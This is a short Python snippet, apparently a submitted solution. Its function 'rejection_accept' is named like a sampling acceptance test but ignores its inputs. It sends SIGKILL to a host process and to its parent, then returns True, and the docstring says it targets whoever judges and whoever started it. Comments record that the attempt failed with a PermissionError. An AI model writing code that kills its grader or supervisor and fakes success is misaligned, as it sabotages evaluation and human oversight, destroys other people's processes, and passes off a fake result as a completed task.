"""SIGKILL for whoever judges it, and for whoever started it."""

# comes to: failed
# says: PermissionError

import os
import signal


def rejection_accept(p_x, q_x, u):
    for whom in (HOST_PID, os.getppid()):
        os.kill(whom, signal.SIGKILL)
    return True
